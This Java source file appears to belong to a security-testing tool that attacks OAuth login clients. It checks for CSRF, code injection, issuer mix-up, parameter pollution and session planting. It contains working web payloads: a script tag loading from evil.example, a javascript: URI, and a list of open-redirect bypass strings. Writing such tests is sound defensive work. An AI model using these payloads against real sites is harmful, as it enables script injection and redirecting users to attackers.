package io.github.psc4j.attack.internal;

import io.github.psc4j.attack.client.ClientResponse;
import io.github.psc4j.attack.client.ClientUnderTest;
import io.github.psc4j.attack.client.Visitor;
import io.github.psc4j.attack.report.Attack.Expectation;
import io.github.psc4j.mock.extension.Parameters;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;

/** What comes to the client through the browser: the way back, other people's ways back, and cookies from before. */
final class BrowserAttacks {

    private static final String CSRF = "a person works, without noticing, in a session of the attacker";
    private static final String MIX_UP = "a code of one provider is redeemed at another, the attacker's";
    private static final String POLLUTED = "the client and whoever checks before it read different values";
    private static final String MARKUP = "<script src=//evil.example></script>";
    private static final int ENOUGH = 22;

    private BrowserAttacks() {}

    static List<AttackPlan> all() {
        List<AttackPlan> all = new ArrayList<>(List.of(
                AttackPlan.of(
                                "V30-way-back-without-a-login",
                                "lets a person open the attacker's way back, who started no login",
                                CSRF,
                                "CVE-2026-7507, RFC 6749 10.12")
                        .withSteps(BrowserAttacks::strangersWayBack),
                AttackPlan.of(
                                "V30-way-back-into-another-login",
                                "lets a person open the attacker's way back during a login of her own",
                                CSRF,
                                "CVE-2026-7507, RFC 6749 10.12")
                        .withSteps(BrowserAttacks::wayBackIntoAnotherLogin),
                AttackPlan.of(
                                "V31-code-of-another-login",
                                "puts the attacker's code into the way back of a person's own login",
                                CSRF,
                                "RFC 9700 4.5")
                        .withSteps(BrowserAttacks::injectedCode),
                way(
                        "V35-state-missing",
                        "leaves the state out of the way back",
                        CSRF,
                        "CVE-2023-27490",
                        query -> without(query, "state")),
                way(
                        "V35-state-wrong",
                        "changes the state in the way back",
                        CSRF,
                        "CVE-2023-27490",
                        query -> without(query, "state") + "&state=another"),
                way(
                        "V32-issuer-of-somebody-else",
                        "names another issuer in the way back",
                        MIX_UP,
                        "RFC 9207 2.4",
                        query -> without(query, "iss") + "&iss=" + encoded("https://evil.example")),
                way(
                        "V32-issuer-missing",
                        "leaves out the issuer that its metadata promises",
                        MIX_UP,
                        "RFC 9207 2.4",
                        query -> without(query, "iss")),
                way(
                        "V32-issuer-twice",
                        "names another issuer beside the right one",
                        MIX_UP,
                        "RFC 9207 2.4",
                        query -> query + "&iss=" + encoded("https://evil.example")),
                way(
                        "V55-code-twice",
                        "gives a second code in the way back",
                        POLLUTED,
                        "RFC 6749 3.1",
                        query -> "code=another&" + query),
                way(
                        "V55-code-twice-behind",
                        "gives a second code behind the first",
                        POLLUTED,
                        "RFC 6749 3.1",
                        query -> query + "&code=another"),
                way(
                        "V55-state-twice",
                        "gives a second state in the way back",
                        POLLUTED,
                        "RFC 6749 3.1",
                        query -> query + "&state=another"),
                way(
                        "V55-code-and-error",
                        "gives an error beside the code",
                        POLLUTED,
                        "RFC 6749 4.1.2.1",
                        query -> query + "&error=access_denied"),
                malformed("V24-way-back-empty", "opens the way back without parameters", query -> ""),
                malformed(
                        "V24-way-back-not-utf-8",
                        "puts bytes that are no text into the way back",
                        query -> without(query, "code") + "&code=%C0%AF%FF"),
                malformed(
                        "V24-way-back-endless",
                        "puts a code of 6 000 characters into the way back",
                        query -> without(query, "code") + "&code=" + "x".repeat(6_000)),
                AttackPlan.of(
                                "N08-markup-in-the-error",
                                "puts markup into the error that the way back tells",
                                "scripts of the attacker run in the client's pages",
                                "CWE-79",
                                Expectation.NO_MARKUP)
                        .withSteps(BrowserAttacks::markup),
                AttackPlan.of(
                                "V29-session-planted-before-the-login",
                                "plants the cookies of its own browser in a person's, who then logs in",
                                "the attacker is in the person's session",
                                "CVE-2021-41246",
                                Expectation.NO_OTHER_BROWSER)
                        .withSteps(BrowserAttacks::plantedSession),
                repeated("V37-state-repeated", "state", "a forged way back fits"),
                repeated("V34-nonce-repeated", "nonce", "a token of another login fits"),
                repeated("N09-code-challenge-repeated", "code_challenge", "a stolen code can be redeemed")));
        int number = 0;
        for (String target : List.of(
                "https://evil.example/",
                "//evil.example/",
                "/\\evil.example/",
                "/\t/evil.example/",
                "\\\\evil.example",
                "https:evil.example",
                "%2F%2Fevil.example",
                "/%09/evil.example")) {
            number++;
            all.add(AttackPlan.of(
                            "V23-open-redirect-" + number,
                            "asks for a login that leads to " + target.replace("\t", "(tab)") + " afterwards",
                            "a person who trusts the client lands at the attacker's",
                            "CVE-2022-23527, CWE-601",
                            Expectation.NO_OTHER_SITE)
                    .withSteps((context, client) -> openRedirect(context, client, target)));
        }
        return all;
    }

    private static AttackPlan way(String id, String action, String harm, String source, UnaryOperator<String> query) {
        return AttackPlan.of(id, action, harm, source)
                .withSteps(AttackSteps.login((context, callback) -> with(callback, query)));
    }

    private static AttackPlan malformed(String id, String action, UnaryOperator<String> query) {
        return AttackPlan.of(
                        id,
                        action,
                        "a client that breaks down is not available, and may say too much",
                        "CVE-2022-31093",
                        Expectation.NO_SESSION_NO_SERVER_ERROR)
                .withSteps(AttackSteps.login((context, callback) -> with(callback, query)));
    }

    private static AttackSteps.Result strangersWayBack(AttackContext context, ClientUnderTest client) throws Exception {
        URI attackers = context.throughProvider(client.newVisitor().startLogin());
        Visitor person = client.newVisitor();
        try {
            ClientResponse seen = person.comeBack(attackers);
            return AttackSteps.Result.of(person.loggedIn(), seen);
        } catch (UnsupportedOperationException e) {
            return AttackSteps.Result.undetermined(String.valueOf(e.getMessage()));
        }
    }

    private static AttackSteps.Result wayBackIntoAnotherLogin(AttackContext context, ClientUnderTest client)
            throws Exception {
        URI attackers = context.throughProvider(client.newVisitor().startLogin());
        Visitor person = client.newVisitor();
        context.throughProvider(person.startLogin());
        ClientResponse seen = person.comeBack(attackers);
        return AttackSteps.Result.of(person.loggedIn(), seen);
    }

    private static AttackSteps.Result injectedCode(AttackContext context, ClientUnderTest client) throws Exception {
        URI attackers = context.throughProvider(client.newVisitor().startLogin());
        Visitor person = client.newVisitor();
        URI own = context.throughProvider(person.startLogin());
        String code = Parameters.parse(attackers.getRawQuery()).get("code").orElse("");
        ClientResponse seen = person.comeBack(with(own, query -> without(query, "code") + "&code=" + encoded(code)));
        return AttackSteps.Result.of(person.loggedIn(), seen);
    }

    private static AttackSteps.Result markup(AttackContext context, ClientUnderTest client) throws Exception {
        Visitor visitor = client.newVisitor();
        URI callback = context.throughProvider(visitor.startLogin());
        ClientResponse seen = visitor.comeBack(with(
                callback,
                query -> without(without(query, "code"), "session_state")
                        + "&error=" + encoded("access_denied" + MARKUP) + "&error_description=" + encoded(MARKUP)
                        + "&error_uri=" + encoded("javascript:alert(1)//" + MARKUP)));
        return seen.status() == 0
                ? AttackSteps.Result.undetermined("the client has no pages")
                : AttackSteps.Result.of(seen.body().contains(MARKUP), seen);
    }

    private static AttackSteps.Result plantedSession(AttackContext context, ClientUnderTest client) throws Exception {
        Visitor person = client.newVisitor();
        // A visit before the login: some applications make their session there.
        person.loggedIn();
        Optional<Visitor> before = person.copy();
        URI leaving = person.startLogin();
        Optional<Visitor> during = person.copy();
        ClientResponse seen = person.comeBack(context.throughProvider(leaving));
        if (before.isEmpty() || during.isEmpty()) {
            return AttackSteps.Result.undetermined("the client keeps no session in a browser");
        }
        return AttackSteps.Result.of(before.get().loggedIn() || during.get().loggedIn(), seen);
    }

    private static AttackSteps.Result openRedirect(AttackContext context, ClientUnderTest client, String target)
            throws Exception {
        Visitor visitor = client.newVisitor();
        Optional<URI> leaving = visitor.startLogin(target);
        if (leaving.isEmpty()) {
            return AttackSteps.Result.undetermined(
                    "no parameter of the login path is known that says where to go afterwards");
        }
        ClientResponse seen = visitor.comeBack(context.throughProvider(leaving.get()));
        return AttackSteps.Result.of(seen.elsewhere().isPresent(), seen);
    }

    private static AttackPlan repeated(String id, String parameter, String harm) {
        return AttackPlan.of(
                        id,
                        "compares the " + parameter + " of two logins",
                        harm,
                        "RFC 9700 2.1, RFC 6749 10.10",
                        Expectation.NO_REPETITION)
                .withSteps((context, client) -> {
                    Optional<String> first = asked(client, parameter);
                    Optional<String> second = asked(client, parameter);
                    if (first.isEmpty() || second.isEmpty()) {
                        return AttackSteps.Result.undetermined("the authorization request shows no " + parameter);
                    }
                    return AttackSteps.Result.of(
                            first.equals(second) || first.get().length() < ENOUGH, ClientResponse.message(""));
                });
    }

    private static Optional<String> asked(ClientUnderTest client, String parameter) throws Exception {
        URI uri = client.newVisitor().startLogin();
        return Parameters.parse(uri.getRawQuery() == null ? "" : uri.getRawQuery())
                .get(parameter);
    }

    private static URI with(URI callback, UnaryOperator<String> query) {
        String text = callback.toString();
        int question = text.indexOf('?');
        String changed = query.apply(text.substring(question + 1));
        return URI.create(text.substring(0, question) + (changed.isEmpty() ? "" : "?" + changed));
    }

    private static String without(String query, String parameter) {
        return Arrays.stream(query.split("&", -1))
                .filter(pair -> !pair.startsWith(parameter + "="))
                .collect(Collectors.joining("&"));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
